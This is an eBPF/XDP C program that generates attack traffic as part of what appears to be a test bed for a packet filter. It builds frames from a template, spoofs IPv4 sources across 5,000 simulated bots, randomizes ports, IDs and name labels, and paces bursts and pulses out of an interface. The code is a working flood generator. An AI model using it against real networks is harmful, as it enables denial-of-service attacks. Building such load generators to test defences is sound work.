/* SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause */
/*
 * Sends an attack, as one endless live test run (sender.py starts it): the kernel runs this
 * on one frame after the other. A frame that is due becomes the next packet and goes out of an
 * interface; one that is not due yet is dropped, which is how time passes.
 *
 * Every packet is written as a whole: the kernel uses a frame again as its last receiver left
 * it, and one that was answered in its place (XDP_TX) is a response.
 */
#include "platform.h"

#define OFFSET_CHECK  24
#define OFFSET_SOURCE 26
#define OFFSET_PORT   34
#define OFFSET_ID     42
#define OFFSET_LABEL  55 /* eight letters of the name */
#define FRAME_WORDS   10 /* of eight octets, and two octets behind them */
#define FRAME_SIZE    82
#define LISTED	      64
#define CATCH_UP_NS   200000
#define PORTS_FIRST   6144 /* wall.bpf.c and site.py know them */
#define PORTS_MASK    0xfff

/* attacks.py has the same numbers. */
enum sources {
	SOURCES_ONE = 0,    /* the first that is listed */
	SOURCES_NEAR = 1,   /* 5,000 in forty /24s */
	SOURCES_FAR = 2,    /* 5,000, each in a /24 of its own */
	SOURCES_ANY = 3,    /* any address */
	SOURCES_LISTED = 4, /* those that are listed */
};

#define BOTS	  5000
#define NEAR_NETS 40
#define NEAR_BASE 0x0a010000 /* 10.1.0.0 */
#define FAR_BASE  0x0a10004d /* 10.16.0.77 */

struct plan {
	__u64 interval_ns; /* from one burst to the next */
	__u64 burst;	   /* packets */
	__u64 ifindex;	   /* where they go */
	__u64 sum;	   /* of the IPv4 header without check and source */
	__u64 sources;	   /* enum sources */
	__u64 random;	   /* not 0: another name each time */
	__u64 on_ns;	   /* a pulse lasts so long */
	__u64 period_ns;   /* from one pulse to the next */
	__u64 start_ns;
	__u64 listed; /* how many */
	/* from here on the program's own */
	__u64 due_ns;
	__u64 left; /* of this burst */
	__u64 sent;
	__u32 source[LISTED]; /* host order */
	__u64 frame[FRAME_WORDS + 1];
};

static __always_inline void put_be16(__u8 *at, __u32 value)
{
	at[0] = value >> 8;
	at[1] = value;
}

static __always_inline void write_frame(__u8 *frame, const struct plan *plan)
{
	int i;

#pragma unroll
	for (i = 0; i < FRAME_WORDS; i++)
		*(__u64 *)(frame + sizeof(__u64) * i) = plan->frame[i];
	*(__u16 *)(frame + sizeof(__u64) * FRAME_WORDS) = plan->frame[FRAME_WORDS];
}

static __always_inline __u32 next_source(const struct plan *plan, __u32 chance)
{
	__u32 bot = chance % BOTS;

	switch (plan->sources) {
	case SOURCES_ONE:
		return plan->source[0];
	case SOURCES_NEAR:
		return NEAR_BASE + (bot % NEAR_NETS << 8) + 1 + bot / NEAR_NETS;
	case SOURCES_FAR:
		return FAR_BASE + (bot << 8);
	case SOURCES_LISTED:
		return plan->source[(chance % (plan->listed ? plan->listed : 1)) & (LISTED - 1)];
	}
	return chance;
}

int attack(struct xdp_md *ctx)
{
	static __u64 (*const ktime_get_ns)(void) = (void *)5;
	static __u32 (*const get_prandom_u32)(void) = (void *)7;
	static long (*const redirect)(__u32 ifindex, __u64 flags) = (void *)23;
	__u8 *frame = frame_start(ctx);
	struct plan *plan = (struct plan *)bpf_pseudo_fd(2, 0);
	__u32 chance, source;
	__u64 sum;
	int i;

	if (frame + FRAME_SIZE > frame_end(ctx))
		return XDP_ABORTED;
	if (!plan->left) {
		__u64 now = ktime_get_ns();

		if (now < plan->due_ns)
			return XDP_DROP;
		plan->due_ns += plan->interval_ns;
		if (plan->due_ns + CATCH_UP_NS < now) /* the rest is never made up for */
			plan->due_ns = now - CATCH_UP_NS;
		if ((now - plan->start_ns) % plan->period_ns >= plan->on_ns)
			return XDP_DROP;
		plan->left = plan->burst;
	}
	plan->left--;
	plan->sent++;
	write_frame(frame, plan);
	chance = get_prandom_u32();
	source = next_source(plan, chance);
	put_be16(frame + OFFSET_SOURCE, source >> 16);
	put_be16(frame + OFFSET_SOURCE + 2, source);
	sum = plan->sum + (source >> 16) + (source & 0xffff);
	sum = (sum & 0xffff) + (sum >> 16);
	put_be16(frame + OFFSET_CHECK, ~(sum + (sum >> 16)));
	chance = get_prandom_u32();
	put_be16(frame + OFFSET_PORT, PORTS_FIRST + (chance & PORTS_MASK));
	put_be16(frame + OFFSET_ID, chance >> 16);
	if (plan->random) {
		chance = get_prandom_u32();
#pragma unroll
		for (i = 0; i < 8; i++)
			frame[OFFSET_LABEL + i] = 'a' + (chance >> 4 * i & 15);
	}
	return redirect(plan->ifindex, 0);
}
